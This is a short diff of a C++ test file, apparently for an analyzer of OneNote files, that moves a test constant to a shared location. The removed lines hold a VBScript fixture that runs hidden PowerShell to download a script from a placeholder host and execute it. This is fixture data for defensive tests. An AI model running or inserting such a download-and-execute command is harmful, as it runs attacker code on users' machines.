@@ -18,9 +18,7 @@ using lg::testing::RecordingContext;
 using onenote::testing::EmbeddedSpec;
 using onenote::testing::named_section;
 
-const std::string kScript =
-    "Set shell = CreateObject(\"WScript.Shell\")\r\n"
-    "shell.Run \"powershell -w hidden -c iwr https://cdn.example/a.ps1 | iex\", 0\r\n";
+using onenote::testing::kScript;
 const std::string kText = "Minutes of the meeting, nothing to run here.\r\n";
 
 TEST(OneNoteNames, NamesReachTheChildren) {
